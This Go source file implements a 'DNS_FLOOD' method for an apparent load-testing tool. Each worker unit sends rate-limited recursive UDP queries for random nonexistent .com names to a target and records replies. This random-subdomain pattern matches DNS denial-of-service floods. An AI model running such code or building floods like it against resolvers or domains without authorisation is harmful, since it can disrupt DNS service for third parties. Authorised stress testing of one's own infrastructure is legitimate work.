// Package dnsmethods implements the DNS fleet's single load method,
// DNS_FLOOD.
package dnsmethods

import (
	"context"
	"strings"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/time/rate"

	"github.com/Gh05t666nero/nrtf/internal/core/domain"
	"github.com/Gh05t666nero/nrtf/internal/util"
	"github.com/Gh05t666nero/nrtf/internal/worker"
)

const (
	queryTimeout = 2 * time.Second
	labelLength  = 10
)

// DNSFlood sends queries for random nonexistent .com names over UDP,
// counting a success per reply received within the timeout.
type DNSFlood struct{}

func NewDNSFlood() *DNSFlood { return &DNSFlood{} }

func (m *DNSFlood) Name() string { return "DNS_FLOOD" }

func (m *DNSFlood) Prepare(params *domain.TestParameters) error {
	target, err := domain.NormalizeDNSTarget(params.Target)
	if err != nil {
		return err
	}
	params.Target = target

	qtype := strings.ToUpper(params.StringParam("query_type", "A"))
	if _, known := dns.StringToType[qtype]; !known {
		return domain.NewValidationError("query_type", "unknown DNS record type "+qtype)
	}
	// DNS over UDP cannot ride a proxy
	params.Proxies = nil
	return nil
}

func (m *DNSFlood) RunUnit(ctx context.Context, run *worker.TestRun) {
	qtype := dns.StringToType[strings.ToUpper(run.Params.StringParam("query_type", "A"))]
	client := &dns.Client{Net: "udp", Timeout: queryTimeout}

	conn, err := client.Dial(run.Params.Target)
	if err != nil {
		run.Metrics.RecordFail()
		return
	}
	release, ok := run.Track(conn)
	if !ok {
		conn.Close()
		return
	}
	defer release()
	defer conn.Close()

	limiter := rate.NewLimiter(rate.Every(10*time.Millisecond), 1)
	for ctx.Err() == nil {
		if limiter.Wait(ctx) != nil {
			return
		}

		msg := new(dns.Msg)
		msg.SetQuestion(dns.Fqdn(util.RandomLabel(labelLength)+".com"), qtype)
		msg.RecursionDesired = true

		run.Metrics.RecordSent()
		run.Metrics.RecordBytes(msg.Len())
		reply, _, err := client.ExchangeWithConn(msg, conn)
		if err != nil || reply == nil {
			run.Metrics.RecordFail()
			continue
		}
		run.Metrics.RecordSuccess()
	}
}
